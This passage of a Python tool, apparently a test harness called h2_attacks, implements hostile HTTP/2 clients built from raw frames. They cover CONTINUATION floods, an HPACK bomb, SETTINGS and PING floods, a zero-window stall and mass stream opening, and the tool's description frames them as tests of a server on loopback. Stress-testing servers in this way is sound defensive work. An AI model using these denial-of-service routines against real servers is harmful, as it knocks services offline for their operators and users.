    while units_sent < count and not conn.closed and conn.goaway is None \
            and not conn.send_blocked and conn.time_left() > 0:
        units = []
        while len(units) < 16 and units_sent + len(units) < count:
            if i == 0:
                units.append(frame(HEADERS, FLAG_END_STREAM, 1, _get_block(args)))
            else:
                off = (i * 37) % 1000
                field = hpack_literal(b"x-a%d" % i, text[off:off + 1000])
                units.append(frame(CONTINUATION, 0, 1, field))
            i += 1
        n = conn.send_units(units)
        units_sent += n
        if n < len(units):
            break
        conn.poll(0)
    seconds = _elapsed(t0)
    conn.drain(idle=1.0, cap=3.0)
    st = conn.stream(1)
    result = {"frames_sent": units_sent}
    result.update(conn.report())
    result.update({
        "seconds": seconds,
        "blocked": conn.send_blocked,
        "rst": st.rst,
        "status": st.status,
    })
    return result, 0


def attack_hpack_bomb(conn, args, count):
    conn.start()
    conn.handshake()
    # Fit the bomb entry into the server's advertised dynamic table
    # (entry size = 32 + len(name) + len(value), RFC 7541 4.1).
    table = conn.peer_settings.get(SETTINGS_HEADER_TABLE_SIZE, 4096)
    name = b"x-bomb"
    vlen = max(1, min(4000, table - 32 - len(name)))
    first = _get_block(args) + hpack_literal_indexed(name, _pseudo_random_text(vlen))
    refs = hpack_indexed(len(STATIC_TABLE) + 1) * MIN_MAX_FRAME_SIZE   # 0xBE * 16384
    conn.out_block_open = True
    sent = 0
    t0 = time.monotonic()
    while sent < count and not conn.closed and conn.goaway is None \
            and not conn.send_blocked and conn.time_left() > 0:
        units = []
        while len(units) < 4 and sent + len(units) < count:
            idx = sent + len(units)
            last = idx == count - 1
            flags = FLAG_END_HEADERS if last else 0
            if idx == 0:
                units.append(frame(HEADERS, FLAG_END_STREAM | flags, 1, first))
            else:
                units.append(frame(CONTINUATION, flags, 1, refs))
        n = conn.send_units(units)
        sent += n
        if n < len(units):
            break
        conn.poll(0)
    seconds = _elapsed(t0)
    st = conn.stream(1)
    if sent == count:
        conn.out_block_open = False       # block complete: queued ACKs may go
        if not conn.closed:
            conn.send(b"")
        conn.drain(idle=5.0, cap=5.0,
                   until=lambda: st.status is not None or st.rst is not None
                   or conn.goaway is not None)
    else:
        conn.drain(idle=1.0, cap=3.0)
    result = {"frames_sent": sent}
    result.update(conn.report())
    result.update({
        "rst": st.rst,
        "status": st.status,
        "seconds": seconds,
        "blocked": conn.send_blocked,
        "table_entry_bytes": 32 + len(name) + vlen,
        "server_header_table_size": table,
    })
    return result, 0


def _flood(conn, args, count, make_unit):
    """Send `count` control frames without ever reading."""
    conn.auto_reply = False
    conn.send(PREFACE + settings_frame([(SETTINGS_ENABLE_PUSH, 0)]),
              read_while_blocked=False)
    sent = 0
    t0 = time.monotonic()
    while sent < count and not conn.closed and not conn.send_blocked \
            and conn.time_left() > 0:
        k = min(512, count - sent)
        units = [make_unit(sent + i) for i in range(k)]
        n = conn.send_units(units, read_while_blocked=False, block_limit=2.0)
        sent += n
        if n < k:
            break
    seconds = _elapsed(t0)
    # Now look at what the server did (ACK backlog, GOAWAY, close); we
    # still send nothing.
    conn.drain(idle=1.0, cap=5.0)
    result = {"frames_sent": sent}
    result.update(conn.report())
    result.update({
        "seconds": seconds,
        "blocked": conn.send_blocked,
        "settings_acks": conn.settings_acks,
        "ping_acks": conn.ping_acks,
        "bytes_received": conn.bytes_received,
    })
    return result, 0


def attack_settings_flood(conn, args, count):
    unit = settings_frame()
    return _flood(conn, args, count, lambda i: unit)


def attack_ping_flood(conn, args, count):
    return _flood(conn, args, count,
                  lambda i: frame(PING, 0, 0, struct.pack(">Q", i)))


def attack_zero_window(conn, args, count):
    conn.auto_window = False          # never a WINDOW_UPDATE, of any kind
    conn.start([(SETTINGS_ENABLE_PUSH, 0), (SETTINGS_INITIAL_WINDOW_SIZE, 0)])
    conn.handshake()
    conn.send(frame(HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, 1, _get_block(args)))
    st = conn.stream(1)
    t0 = time.monotonic()
    end = min(conn.deadline, t0 + args.wait)
    while st.rst is None and conn.goaway is None and not conn.closed \
            and time.monotonic() < end:
        conn.poll(min(0.1, max(0.0, end - time.monotonic())))
    result = {
        "headers": st.got_headers,
        "status": st.status,
        "rst": st.rst,
    }
    result.update(conn.report())
    result.update({
        "seconds": _elapsed(t0),
        "body_len": st.body_len,
        "ended": st.ended,
    })
    return result, 0


def attack_many_streams(conn, args, count):
    conn.start()
    conn.handshake()
    block = _get_block(args)
    count = min(count, (MAX_STREAM_ID + 1) // 2)
    sids = []
    while len(sids) < count and not conn.closed and not conn.send_blocked \
            and conn.time_left() > 0:
        batch = [1 + 2 * (len(sids) + i) for i in range(min(32, count - len(sids)))]
        n = conn.send_units([frame(HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, sid, block)
                             for sid in batch])
        sids.extend(batch[:n])
        if n < len(batch):
            break
        conn.poll(0)
    for sid in sids:
        conn.stream(sid)

    def done(sid):
        st = conn.streams[sid]
        if st.ended or st.rst is not None:
            return True
        # Streams above a GOAWAY's last-stream-id will never be answered.
        return conn.goaway is not None and conn.goaway[0] is not None \
            and sid > conn.goaway[0]

    end = min(conn.deadline, time.monotonic() + 10.0)
    while not conn.closed and time.monotonic() < end and not all(done(s) for s in sids):
        conn.poll(min(0.05, max(0.0, end - time.monotonic())))
    streams = [conn.streams[s] for s in sids]
    statuses = {}
    for st in streams:
        if st.status is not None:
            statuses[str(st.status)] = statuses.get(str(st.status), 0) + 1
    result = {
        "streams_sent": len(sids),
        "completed": sum(1 for st in streams if st.ended),
        "reset": sum(1 for st in streams if st.rst is not None),
        "refused": sum(1 for st in streams if st.rst == ERR_REFUSED_STREAM),
        "unanswered": sum(1 for st in streams if not st.ended and st.rst is None),
        "statuses": statuses,
        "max_concurrent_streams": conn.peer_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS),
    }
    result.update(conn.report())
    return result, 0


ATTACKS = {
    # name: (function, default --count)
    "ok": (attack_ok, 1),
    "rapid-reset": (attack_rapid_reset, 20000),
    "continuation-flood": (attack_continuation_flood, 100000),
    "hpack-bomb": (attack_hpack_bomb, 2000),
    "settings-flood": (attack_settings_flood, 200000),
    "ping-flood": (attack_ping_flood, 200000),
    "zero-window": (attack_zero_window, 1),
    "many-streams": (attack_many_streams, 200),
}


def _positive_int(text):
    value = int(text)
    if value < 1:
        raise argparse.ArgumentTypeError("must be >= 1")
    return value


def _positive_float(text):
    value = float(text)
    if value <= 0:
        raise argparse.ArgumentTypeError("must be > 0")
    return value


def main(argv=None):
    parser = argparse.ArgumentParser(
        description="Hostile HTTP/2 clients (raw frames) for testing a server on loopback.")
    parser.add_argument("attack", metavar="ATTACK", choices=sorted(ATTACKS),
                        help="one of: " + ", ".join(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--tls", action="store_true",
                        help="TLS with ALPN h2 (no certificate check); default h2c prior knowledge")
    parser.add_argument("--authority", default="localhost")
    parser.add_argument("--path", default="/")
    parser.add_argument("--count", type=_positive_int, default=None,
                        help="streams/frames to send (default depends on the attack)")
    parser.add_argument("--timeout", type=_positive_float, default=None,
                        help="global time limit in seconds (default 20; zero-window: --wait + 5)")
    parser.add_argument("--wait", type=_positive_float, default=30.0,
                        help="zero-window: how long to wait for the server to give up")
    args = parser.parse_args(argv)
    if not 0 < args.port < 65536:
        parser.error("--port out of range")
    if not args.path.startswith("/"):
        parser.error("--path must start with /")

    func, default_count = ATTACKS[args.attack]
    count = args.count if args.count is not None else default_count
    if args.timeout is not None:
        timeout = args.timeout
    else:
        timeout = args.wait + 5.0 if args.attack == "zero-window" else 20.0
    deadline = time.monotonic() + timeout

    conn = H2Conn(args, deadline)
    try:
        conn.connect()
    except ConnectError as exc:
        print(f"h2_attacks: {exc}", file=sys.stderr)
        print(json.dumps({"error": str(exc)}))
        return 3
    try:
        result, rc = func(conn, args, count)
    finally:
        conn.close()
    print(json.dumps(result, sort_keys=False))
    sys.stdout.flush()
    return rc


if __name__ == "__main__":
    sys.exit(main())
